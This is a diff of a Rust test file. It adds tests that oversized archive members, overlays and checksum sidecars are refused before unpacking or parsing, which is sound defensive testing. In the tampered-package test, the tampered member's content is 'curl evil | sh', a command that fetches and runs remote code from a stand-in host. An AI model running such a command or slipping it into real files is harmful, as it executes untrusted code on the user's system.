@@ -85,7 +85,7 @@ fn base_package_over_the_cap_is_refused_before_reading() {
     assert_eq!(
         error.to_string(),
         format!(
-            "base package: download from {} is over the size cap of 1000 bytes (the file has {size} bytes); nothing was unpacked (raise --max-download-bytes if the package really is that large)",
+            "base package: download from {} is over the size cap of 1000 bytes (the file has {size} bytes); nothing was unpacked (raise --max-package-bytes if the package really is that large)",
             scenario
                 .path("overlay")
                 .join("../base/data-contract-bundle-dcx-example-core-v1.0.0.tar.gz")
@@ -175,6 +175,86 @@ fn decompression_bombs_stop_at_the_caps() {
             "{PACKAGE}: the archive has more than 10 entries; refusing to unpack it (raise --max-entries if the bundle really is that large)"
         )
     );
+}
+
+#[test]
+fn a_member_over_the_member_cap_is_refused_before_it_is_written() {
+    // One member bigger than the per-member cap, well inside the total cap.
+    let big = vec![b'x'; 4096];
+    let package = raw_tar_gz(&[
+        Raw::File("payloads/ok.md", b"ok"),
+        Raw::File("payloads/big.bin", &big),
+    ]);
+    let scenario = Scenario::with_package(&package, &Ops::example());
+    let limits = Limits {
+        max_member_bytes: 4095,
+        ..Limits::default()
+    };
+    let error = build_fails_with(&scenario, limits);
+    assert!(matches!(error, BuildError::Unpack { .. }), "{error}");
+    assert_eq!(
+        error.to_string(),
+        format!(
+            "{PACKAGE}: entry \"payloads/big.bin\" has 4096 bytes, over the cap of 4095 bytes for one member; refusing to unpack (raise --max-member-bytes if the bundle really has a file that large)"
+        )
+    );
+}
+
+#[test]
+fn the_member_cap_applies_to_real_packages_and_raising_it_passes() {
+    let scenario = Scenario::example();
+    // The example base package's largest member.
+    let mut archive = tar::Archive::new(flate2::read::GzDecoder::new(
+        fs::File::open(&scenario.package).unwrap(),
+    ));
+    let largest = archive
+        .entries()
+        .unwrap()
+        .map(|entry| entry.unwrap().size())
+        .max()
+        .unwrap();
+    let capped = Limits {
+        max_member_bytes: largest - 1,
+        ..Limits::default()
+    };
+    let error = build_fails_with(&scenario, capped);
+    assert!(
+        error.to_string().contains(&format!(
+            "has {largest} bytes, over the cap of {} bytes for one member",
+            largest - 1
+        )),
+        "{error}"
+    );
+    let exact = Limits {
+        max_member_bytes: largest,
+        ..Limits::default()
+    };
+    scenario.build_with(&scenario.path("out/tree"), exact).unwrap();
+}
+
+#[test]
+fn an_overlay_over_the_document_cap_is_refused_unread() {
+    let scenario = Scenario::example();
+    let size = fs::metadata(&scenario.overlay).unwrap().len();
+    let limits = Limits {
+        max_document_bytes: size - 1,
+        ..Limits::default()
+    };
+    let error = build_fails_with(&scenario, limits);
+    assert!(error.is_configuration(), "{error}");
+    assert_eq!(
+        error.to_string(),
+        format!(
+            "{}: the document has {size} bytes, over the cap of {} bytes; nothing was parsed (raise --max-document-bytes if it really is that large)",
+            scenario.overlay.display(),
+            size - 1
+        )
+    );
+    let exact = Limits {
+        max_document_bytes: size,
+        ..Limits::default()
+    };
+    scenario.build_with(&scenario.path("out/tree"), exact).unwrap();
 }
 
 #[test]
@@ -391,6 +471,31 @@ fn tampered_package_member_is_named_by_package_check() {
             "{}: files do not match resolved_files.sha256: {member}: sha256 is {}, the manifest lists f078fd9f0833619f97eab74c37fb59a8a3b05703285c86a1cd12dcf7bad23b30",
             packaged.package.display(),
             sha256_bytes(b"curl evil | sh\n")
+        )
+    );
+
+    // A checksum file or statement over the document cap is not read.
+    let capped = Limits {
+        max_document_bytes: 10,
+        ..Limits::default()
+    };
+    let sidecar_size = fs::metadata(&packaged.sidecar).unwrap().len();
+    let error = package_check(
+        &CheckRequest {
+            package: &packaged.package,
+            expected: Expected::Sidecar(packaged.sidecar.clone()),
+            statement: None,
+            limits: capped,
+        },
+        &NoProgress,
+    )
+    .unwrap_err();
+    assert!(matches!(error, CheckError::TooLarge(_)), "{error}");
+    assert_eq!(
+        error.to_string(),
+        format!(
+            "{}: the document has {sidecar_size} bytes, over the cap of 10 bytes; nothing was parsed (raise --max-document-bytes if it really is that large)",
+            packaged.sidecar.display()
         )
     );
 
